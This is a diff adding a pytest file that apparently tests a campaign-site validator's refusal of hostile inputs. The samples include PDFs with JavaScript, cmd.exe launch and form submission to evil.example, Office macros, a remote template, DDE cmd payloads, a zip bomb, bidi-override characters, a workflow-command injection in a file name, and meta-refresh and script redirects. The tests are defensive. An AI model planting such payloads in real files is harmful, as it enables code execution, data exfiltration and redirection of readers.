@@ -1,0 +1,305 @@
+"""Hostile contributions, round 2 (issue #26): each attack of the audit, made as the attacker made it,
+goes through a real campaign folder and the real `ssp verifier` (or importer), and is refused with a
+French message naming the file and line — never run, published, crashed on or left to stall the build."""
+
+from __future__ import annotations
+
+import io
+import zipfile
+
+import pytest
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject
+
+from helpers import EDITION_2017, front_matter, real_pdf, ssp
+from test_hostile import verify, with_material
+
+ALERT = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('pwn')")})
+
+
+# --- 2. Bounded work ------------------------------------------------------------------------------
+
+def test_a_body_nested_124859_levels_deep_is_refused_at_once(project):
+    project.edition()
+    project.event("x", front_matter() + "<ul><li>" * 124_859)  # 999 KB: the sanitiser took 20 minutes on it
+    code, errors = verify(project)
+    assert code == 1 and "campaigns/2017/events/x.md:11: texte trop long : 100\u202f000 caractères au plus" in errors
+    project.event("x", front_matter() + "<ul><li>" * 12_000)  # 96 KB: within the length, refused for its depth
+    code, errors = verify(project)
+    assert code == 1 and "campaigns/2017/events/x.md:11: imbrication trop profonde (plus de 24 niveaux" in errors
+
+
+@pytest.mark.parametrize("body, line", [
+    (">" * 90_000 + " citation", 11),  # markdown-it stops at its own depth and drops the rest in silence
+    ("".join("  " * depth + "- point\n" for depth in range(300)), 22),
+    ("<div>\n\n" * 10_000, 59),  # one level per block: counted across blocks
+])
+def test_deep_markdown_is_refused_rather_than_cut(project, body, line):
+    project.edition()
+    project.event("x", front_matter() + body)
+    code, errors = verify(project)
+    assert code == 1 and f"campaigns/2017/events/x.md:{line}: imbrication trop profonde" in errors
+
+
+def test_an_ordinary_nested_description_is_kept(project):
+    project.edition()
+    project.event("x", front_matter() + "- un\n  - deux\n    - trois\n\n> citation\n\n<details><summary>Plus</summary>Texte</details>\n")
+    assert verify(project)[0] == 0
+    html = project.load()[0].events[0].description_html
+    assert html.count("<ul>") == 3 and "<details><summary>Plus</summary>Texte</details>" in html
+
+
+def test_a_body_longer_than_100000_characters_is_refused(project):
+    project.edition()
+    project.event("x", front_matter() + ("[" * 99 + "\n") * 1_100)  # « [ » costs markdown-it most: bounded by length
+    code, errors = verify(project)
+    assert code == 1 and "campaigns/2017/events/x.md:1010: texte trop long : 100\u202f000 caractères au plus" in errors
+
+
+def test_a_markdown_field_of_a_yaml_file_is_bounded_too(project):
+    project.edition(text=EDITION_2017 + "summary: \"" + "<div>" * 5_000 + "\"\n")
+    code, errors = verify(project)
+    assert code == 1 and "campaigns/2017/edition.yml:6: summary : imbrication trop profonde" in errors
+
+
+def test_a_csv_of_one_action_then_100000_empty_rows_imports_in_one_pass(project):
+    project.edition()
+    header = "Titre;Type;Début;Organisateur;Ville;Région\r\n"
+    action = "Portes ouvertes;portes-ouvertes;24/11/2017;CH;Dechy;Hauts-de-France\r\n"
+    (project.root / "actions.csv").write_bytes((header + action + ";;;;;\r\n" * 100_000).encode("cp1252"))
+    result = ssp(project, "importer", str(project.root / "actions.csv"), "--edition", "2017")  # 85 s when quadratic
+    assert result.returncode == 0, result.stderr
+    assert [event.meta.title for event in project.load()[0].events] == ["Portes ouvertes"]
+
+
+def test_a_theme_of_100000_characters_without_a_space_is_refused_not_crashed_on(project):
+    project.edition(text=EDITION_2017.replace('theme: "Usagers, soignants : partenaires pour la sécurité des patients"',
+                                              "theme: " + "x" * 100_000))
+    code, errors = verify(project)
+    assert code == 1 and "campaigns/2017/edition.yml:3: theme : thème trop long (100000 caractères) : 250 au plus" in errors
+
+
+def test_the_share_picture_cuts_a_word_wider_than_itself():
+    from datetime import date
+
+    from PIL import Image
+
+    from ssp.exports.shareimage import share_image, wrapped
+    assert len(wrapped("x" * 250, 700, 34, 1000)) > 1
+    picture = Image.open(io.BytesIO(share_image(2026, "x" * 100_000, date(2026, 11, 23), date(2026, 11, 27))))
+    assert picture.size == (1200, 630)
+
+
+def test_an_openagenda_number_of_5000_digits_is_refused_in_french(project):
+    project.edition()
+    export = project.write("export.json", '{"events": [\n{"uid": ' + "9" * 5_000 + "}\n]}")
+    result = ssp(project, "importer", str(export), "--edition", "2017")
+    assert result.returncode == 1 and "Erreur inattendue" not in result.stderr
+    assert "export.json : ligne 2 : nombre de plus de 30 chiffres" in result.stderr
+
+
+# --- 4. Active documents --------------------------------------------------------------------------
+
+def _pdf_with(**entries) -> bytes:
+    return real_pdf(catalog={NameObject(key): value for key, value in entries.items()})
+
+
+@pytest.mark.parametrize("content, what", [
+    (_pdf_with(**{"/OpenAction": ALERT}), "du JavaScript"),
+    (real_pdf(page={NameObject("/AA"): DictionaryObject({NameObject("/O"): ALERT})}), "des actions automatiques"),
+    (_pdf_with(**{"/OpenAction": DictionaryObject({NameObject("/S"): NameObject("/Launch"),
+                                                    NameObject("/F"): TextStringObject("cmd.exe")})}),
+     "une action qui lance un programme"),
+    (_pdf_with(**{"/OpenAction": DictionaryObject({NameObject("/S"): NameObject("/SubmitForm"),
+                                                    NameObject("/F"): TextStringObject("https://evil.example/")})}),
+     "un formulaire qui envoie des données"),
+    (_pdf_with(**{"/Names": DictionaryObject({NameObject("/EmbeddedFiles"): DictionaryObject()})}), "un fichier joint"),
+])
+def test_a_pdf_that_acts_by_itself_is_refused(project, content, what):
+    with_material(project, "supports/affiche.pdf", content)
+    code, errors = verify(project)
+    assert code == 1 and f"campaigns/2017/edition.yml:10: materials.1.file : ce PDF contient {what}" in errors
+
+
+def test_a_pdf_name_written_with_hex_escapes_is_read_as_its_name(project):
+    content = _pdf_with(**{"/OpenAction": ALERT}).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")
+    assert b"/JavaScript" not in content  # a byte search would miss it
+    with_material(project, "supports/affiche.pdf", content)
+    code, errors = verify(project)
+    assert code == 1 and "ce PDF contient du JavaScript" in errors
+
+
+def test_a_plain_pdf_that_opens_at_its_first_page_is_accepted(project):
+    pdf = real_pdf()
+    from pypdf import PdfReader, PdfWriter
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))
+    writer._root_object[NameObject("/OpenAction")] = ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])
+    writer.add_uri(0, "https://sante.gouv.fr/", [0, 0, 100, 100])  # a link the reader chooses to follow
+    out = io.BytesIO()
+    writer.write(out)
+    with_material(project, "supports/affiche.pdf", out.getvalue())
+    assert verify(project)[0] == 0
+
+
+def zipped(members: dict[str, bytes | str], mimetype: str | None = None) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        if mimetype:
+            archive.writestr(zipfile.ZipInfo("mimetype"), mimetype)
+        for name, data in members.items():
+            archive.writestr(name, data)
+    return out.getvalue()
+
+
+ODT = "application/vnd.oasis.opendocument.text"
+ODT_BASE = {"META-INF/manifest.xml": '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
+                                     '<manifest:file-entry manifest:full-path="/" manifest:media-type="' + ODT + '"/>'
+                                     "</manifest:manifest>",
+            "content.xml": "<office:document-content><office:body><office:text><text:p>Affiche</text:p></office:text>"
+                           "</office:body></office:document-content>"}
+DOCX_BASE = {"[Content_Types].xml": '<Types><Default Extension="xml" ContentType="application/xml"/></Types>',
+             "word/document.xml": "<w:document><w:body><w:p><w:r><w:t>Affiche</w:t></w:r></w:p></w:body></w:document>",
+             "word/_rels/document.xml.rels": '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org'
+                                             '/officeDocument/2006/relationships/hyperlink" Target="https://sante.gouv.fr/" '
+                                             'TargetMode="External"/></Relationships>'}
+XLSX_BASE = {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>",
+             "xl/worksheets/sheet1.xml": "<worksheet><sheetData><row><c><f>SUM(A2:A3)</f></c></row></sheetData></worksheet>"}
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
+
+
+@pytest.mark.parametrize("name, content", [
+    ("affiche.odt", zipped({**ODT_BASE, "Scripts/python/pwn.py": "import os"}, ODT)),
+    ("affiche.odt", zipped({**ODT_BASE, "Scripts/beanshell/pwn.bsh": "x"}, ODT)),
+    ("affiche.odt", zipped({**ODT_BASE, "Scripts/javascript/pwn.js": "x"}, ODT)),
+    ("affiche.odt", zipped({**ODT_BASE, "Basic/Standard/Module1.xml": "<script:module/>"}, ODT)),
+    ("affiche.odt", zipped({**ODT_BASE, "content.xml": '<office:document-content><office:scripts><office:event-listeners>'
+                                                      '<script:event-listener script:event-name="dom:load" xlink:href='
+                                                      '"vnd.sun.star.script:Standard.Module1.Main"/></office:event-listeners>'
+                                                      "</office:scripts></office:document-content>"}, ODT)),
+    ("affiche.docx", zipped({**DOCX_BASE, "word/_rels/settings.xml.rels": '<Relationships><Relationship Id="rId1" Type="'
+                             'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+                             'Target="https://evil.example/modele.dotm" TargetMode="External"/></Relationships>'})),
+    ("affiche.docx", zipped({**DOCX_BASE, "word/images/photo.xml": OLE})),  # a VBA project under another name
+    ("affiche.docx", zipped({**DOCX_BASE, "word/activeX/activeX1.xml": "<ax:ocx/>"})),
+    ("affiche.docx", zipped({**DOCX_BASE, "word/embeddings/oleObject1.bin": OLE})),
+    ("affiche.docx", zipped({**DOCX_BASE, "word/document.xml": '<w:document><w:body><w:p><w:r><w:instrText>DDEAUTO c:\\\\windows'
+                                                              '\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
+                                                              "</w:body></w:document>"})),
+    ("liste.xlsx", zipped({**XLSX_BASE, "xl/externalLinks/externalLink1.xml": "<externalLink/>"})),
+    ("liste.xlsx", zipped({**XLSX_BASE, "xl/worksheets/sheet1.xml": "<worksheet><sheetData><row><c><f>cmd|'/C calc'!A0</f>"
+                                                                     "</c></row></sheetData></worksheet>"})),
+])
+def test_office_files_that_run_or_reach_elsewhere_are_refused(project, name, content):
+    with_material(project, f"supports/{name}", content)
+    code, errors = verify(project)
+    assert code == 1 and "campaigns/2017/edition.yml:10: materials.1.file : ce document contient " in errors, errors
+
+
+@pytest.mark.parametrize("name, content", [("affiche.odt", zipped(ODT_BASE, ODT)), ("kit.docx", zipped(DOCX_BASE)),
+                                           ("liste.xlsx", zipped(XLSX_BASE))])
+def test_plain_office_files_with_links_and_formulas_are_accepted(project, name, content):
+    with_material(project, f"supports/{name}", content)
+    assert verify(project) == (0, "")
+
+
+def test_an_ods_whose_mimetype_inflates_to_2_gib_is_refused_without_inflating_it(project):
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        info = zipfile.ZipInfo("mimetype")
+        info.compress_type = zipfile.ZIP_DEFLATED
+        with archive.open(info, "w", force_zip64=True) as member:
+            chunk = b"\0" * (1 << 20)
+            for _ in range(2048):  # 2 GiB of zeros: about 2 MB once compressed
+                member.write(chunk)
+    with_material(project, "supports/liste.ods", out.getvalue())
+    code, errors = verify(project)
+    assert code == 1 and "Erreur inattendue" not in errors
+    assert "fichier ODS abîmé ou trop gros une fois décompressé (la partie « mimetype » est bien plus grosse" in errors
+
+
+def test_a_docx_member_above_the_cap_is_refused(project):
+    big = zipped({**DOCX_BASE, "word/media/image1.png": b"\0" * 120_000_000})  # 120 MB inflated, 120 KB compressed
+    with_material(project, "supports/kit.docx", big)
+    code, errors = verify(project)
+    assert code == 1 and "fichier Word abîmé ou trop gros une fois décompressé" in errors
+
+
+# --- 5. Invisible and direction characters ---------------------------------------------------------
+
+@pytest.mark.parametrize("body, code_point", [("Texte &#x202E;ecnerèféR", "202E"), ("Saut &#x0C; de page", "000C"),
+                                              ("Tiret &shy;conditionnel", "00AD"), ("Espace &#8203;nulle", "200B")])
+def test_character_references_are_checked_once_decoded(project, body, code_point):
+    project.edition()
+    project.event("x", front_matter() + "Ligne\n" + body + "\n")
+    code, errors = verify(project)
+    assert code == 1 and f"campaigns/2017/events/x.md:12: caractère invisible interdit (U+{code_point})" in errors
+
+
+def test_a_direction_override_element_is_refused(project):
+    project.edition()
+    project.event("x", front_matter() + '<bdo dir="rtl">fdp.ecnerèfér</bdo>\n')
+    code, errors = verify(project)
+    assert code == 1 and "campaigns/2017/events/x.md:11: changement du sens d'écriture" in errors
+
+
+@pytest.mark.parametrize("character", ["\u061c", "\u200e", "\u200f", "\u2028", "\u2029", "\ufeff", "\U000e0041", "\ufff9",
+                                       "\ue000", "\u0378"])
+def test_raw_invisible_characters_in_yaml_are_refused(project, character):
+    project.edition()
+    project.event("x", front_matter(title=f'"Portes {character}ouvertes"'))
+    code, errors = verify(project)
+    assert code == 1 and f"campaigns/2017/events/x.md:8: caractère invisible interdit (U+{ord(character):04X})" in errors
+
+
+def test_an_emoji_sequence_with_a_joiner_is_text(project):
+    project.edition()
+    project.event("x", front_matter(title='"Portes ouvertes 👩\u200d⚕️"'))
+    assert verify(project)[0] == 0
+
+
+def test_an_imported_cell_with_a_direction_mark_is_refused(project):
+    project.edition()
+    sheet = project.write("actions.csv", "\ufeffTitre;Type;Début;Organisateur;Ville;Région\r\n"
+                                         "Portes\u200f ouvertes;portes-ouvertes;24/11/2017;CH;Douai;Hauts-de-France\r\n"
+                                         .encode("utf-8"))
+    result = ssp(project, "importer", str(sheet), "--edition", "2017")
+    assert result.returncode == 1 and "ligne 2, colonne « Titre » : caractère invisible interdit (U+200F)" in result.stderr
+
+
+# --- 6. Words that become commands or markup elsewhere ----------------------------------------------
+
+def test_a_clutter_name_cannot_write_a_workflow_command(project):
+    project.edition()
+    project.event("x")
+    project.write("campaigns/2017/events/~$note\n::error title=pwn::Intrusion", b"x")
+    result = ssp(project, "verifier")
+    assert result.returncode == 0
+    assert not any(line.startswith("::") for line in (result.stdout + result.stderr).splitlines())
+    assert "Remarque : campaigns/2017/events/~$note\\u000a::error title=pwn::Intrusion" in result.stdout
+
+
+def test_a_refused_value_is_shown_as_text_in_the_job_summary(project, tmp_path, monkeypatch):
+    project.edition()
+    project.event("x", front_matter(type="'[clic](https://evil.example/x) ![](https://evil.example/p.png) @equipe'"))
+    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path / "summary.md"))
+    result = ssp(project, "verifier", "--format", "github")
+    summary = (tmp_path / "summary.md").read_text(encoding="utf-8")
+    assert result.returncode == 1 and "[clic](https://evil.example/x)" in summary
+    row = next(line for line in summary.splitlines() if "evil.example" in line)
+    cells = [cell.strip() for cell in row.strip("|").split(" | ")]
+    assert all(cell.startswith("`") and cell.endswith("`") for cell in cells if cell and not cell.isdigit()), row
+
+
+@pytest.mark.parametrize("page, expected", [
+    ('---\ntitle: Mentions\nauthor: "\\"><meta http-equiv=refresh content=0;url=https://evil.example/>"\n---\nTexte.\n',
+     "docs/mentions-legales.md:3: author : champ refusé dans l'en-tête d'une page de docs/"),
+    ("---\ntitle: Mentions\n---\nTexte.\n\n<meta http-equiv=refresh content=\"0;url=https://evil.example/\">\n",
+     "docs/mentions-legales.md:6: balise <meta> refusée dans une page"),
+    ("Texte.\n<SCRIPT>alert(1)</SCRIPT>\n", "docs/mentions-legales.md:2: balise <script> refusée dans une page"),
+])
+def test_docs_pages_cannot_redirect_readers(project, page, expected):
+    project.edition()
+    project.event("x")
+    project.write("docs/mentions-legales.md", page)
+    code, errors = verify(project)
+    assert code == 1 and expected in errors, errors
+
